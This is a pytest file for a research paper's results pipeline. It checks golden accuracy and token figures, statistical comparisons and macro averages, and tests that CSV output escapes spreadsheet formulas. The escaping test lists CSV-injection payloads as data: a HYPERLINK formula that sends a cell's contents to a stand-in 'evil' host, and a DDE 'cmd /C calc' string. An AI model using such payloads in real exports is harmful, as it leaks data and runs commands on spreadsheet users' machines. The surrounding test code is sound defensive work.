"""Numbers of the paper's page that may not move, and CSV as spreadsheets read it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline.paper.aggregates import macro
from pipeline.paper.beliefs import from_other_half
from pipeline.paper.build import build
from pipeline.paper.evaluation import evaluate
from pipeline.paper.settings import Maker
from pipeline.replay.pools import read_pool
from pipeline.results.csv_lines import csv_line, csv_lines
from pipeline.statistics.intervals import mean_interval

GOLDEN = json.loads((Path(__file__).parent / "data" / "paper_numbers.json").read_text("utf-8"))


@pytest.fixture(scope="module")
def files() -> dict[str, list[dict[str, str]]]:
    """The lines of every CSV file of the small pool's page, by name."""
    pool = read_pool("tests/data/pool")
    believed = from_other_half(pool)
    maker = Maker(pool.science, "paper", believed.p0_source)
    made = evaluate(believed, pool.science.generator.model, maker)
    return {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(content)))
        for name, content in build([made], profile="paper")
        if name.endswith(".csv")
    }


@pytest.mark.parametrize(
    "table", [name for name in GOLDEN if name not in ("comparisons", "fronts")]
)
def test_accuracy_and_tokens_of_every_cell_stay(
    files: dict[str, list[dict[str, str]]], table: str
) -> None:
    """As they were recorded, row by row."""
    found = {f"{row['row']}, {row['column']}": row for row in files[table]}
    for name, (accuracy, tokens) in GOLDEN[table].items():
        assert float(found[name]["accuracy"]) == pytest.approx(accuracy, abs=1e-8)
        assert float(found[name]["tokens"]) == pytest.approx(tokens, abs=1e-5)


def test_differences_stay(files: dict[str, list[dict[str, str]]]) -> None:
    """With their ends, p-values before correction, and tokens saved."""
    found = {f"{row['first']} against {row['second']}": row for row in files["comparisons"]}
    names = ("difference", "difference_low", "difference_high", "p", "saved")
    for pair, values in GOLDEN["comparisons"].items():
        assert [float(found[pair][name]) for name in names] == pytest.approx(values, abs=1e-8)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("-3", "-3"),
        ("+2.5e3", "+2.5e3"),
        ("a=b", "a=b"),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_no_cell_is_a_formula(value: Any, shown: str) -> None:
    """Text that a spreadsheet would run gets an apostrophe; numbers stay numbers."""
    (row,) = csv.reader(io.StringIO(csv_line([value, "x"]), newline=""))

    assert row == [shown, "x"]
    assert csv_lines(["a", "b"], [{"a": value}]) == f"a,b\n{csv_line([value, None])}\n"


def test_averages_over_benchmarks_weigh_each_alike() -> None:
    """Two benchmarks of 4 and 2 questions: the macro average is the mean of 0.5 and 1.0; its error
    is that of both means."""
    found = macro([np.array([1.0, 0.0, 1.0, 0.0, np.nan]), np.array([1.0, 1.0])])
    half = mean_interval([1.0, 0.0, 1.0, 0.0]).half_width / 2

    assert found.value == 0.75
    assert (found.low, found.high) == pytest.approx((0.75 - half, 0.75 + half))


def test_aggregates_are_of_the_page(files: dict[str, list[dict[str, str]]]) -> None:
    """The mean gain over MR-Thinking is that of the cells of the main table."""
    (gain,) = [row for row in files["aggregates"] if "gain in accuracy over MR" in row["aggregate"]]
    main = {row["row"]: float(row["accuracy"]) for row in files["main"] if row["accuracy"]}
    assert float(gain["ours"]) == pytest.approx(main["MarkovScale*"] - main["MR-Thinking"])
